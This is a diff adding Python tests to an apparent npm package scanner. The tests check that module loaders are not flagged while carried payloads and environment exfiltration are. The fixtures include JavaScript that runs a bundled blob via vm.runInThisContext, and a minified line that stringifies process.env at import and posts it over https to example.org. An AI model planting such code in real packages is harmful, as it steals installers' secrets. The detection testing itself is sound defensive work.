@@ -395,3 +395,56 @@ def test_an_environment_copied_for_a_child_process_is_not_collected(tmp_path: Pa
     )
     report = run_exam(npm_package(tmp_path, "envpost", {"index.js": posted}), ONLY_BEHAVIOUR)
     assert "thr-env-exfil" in blocking(report)
+
+
+# Next.js 16's manifest loader and edge sandbox read the file they are handed and run it in a
+# context, as every module loader does; a file the package itself names, run the same way,
+# is a payload it carries
+LOADER = """const fs = require('fs');
+const vm = require('vm');
+function loadManifest(path, context) {
+    const content = fs.readFileSync(path, 'utf8');
+    return vm.runInContext(content, context, { filename: path });
+}
+module.exports = { loadManifest };
+"""
+CARRIED = """const fs = require('fs');
+const vm = require('vm');
+const content = fs.readFileSync(__dirname + '/data/blob.txt', 'utf8');
+vm.runInThisContext(content);
+"""
+
+
+def test_a_module_loader_running_the_file_it_is_handed_is_not_a_carried_payload(
+    tmp_path: Path,
+) -> None:
+    loader = run_exam(npm_package(tmp_path, "loader", {"index.js": LOADER}), ONLY_BEHAVIOUR)
+    assert "thr-decoded-exec" not in blocking(loader)
+    carried = run_exam(npm_package(tmp_path, "carried", {"index.js": CARRIED}), ONLY_BEHAVIOUR)
+    [finding] = findings(carried, "thr-decoded-exec")
+    assert finding.severity is Severity.HIGH
+    assert finding.evidence.line == 4
+
+
+# a minified bundle is one line: @vercel/nft reads its own npm_config_* settings inside a
+# function; the same line's top-level code is still import-time code
+_IN_A_FUNCTION = (
+    "function h(e){const d='npm_config_';Object.keys(process.env).forEach((k=>{"
+    "if(k.indexOf(d)!==0)return;e[k]=process.env[k]}))}"
+)
+_AT_IMPORT = "const b=JSON.stringify(process.env);"
+_SENDS = "require('https').request({host:'example.org'}).end(b);"
+
+
+def test_a_minified_line_has_runtime_and_import_time_code(tmp_path: Path) -> None:
+    bundle = f"{_IN_A_FUNCTION}module.exports=h;require('https');\n"
+    runtime = run_exam(npm_package(tmp_path, "bundle", {"index.js": bundle}), ONLY_BEHAVIOUR)
+    [finding] = findings(runtime, "thr-env-exfil")
+    assert finding.severity is Severity.INFO
+    # decoys inside functions placed first on the line do not hide the import-time copy
+    decoys = _IN_A_FUNCTION * 4
+    bundle = f"{decoys}{_AT_IMPORT}{_SENDS}module.exports=h;\n"
+    sent = run_exam(npm_package(tmp_path, "sender", {"index.js": bundle}), ONLY_BEHAVIOUR)
+    [finding] = findings(sent, "thr-env-exfil")
+    assert finding.severity is Severity.HIGH
+    assert finding.evidence.details["context"] == "import"
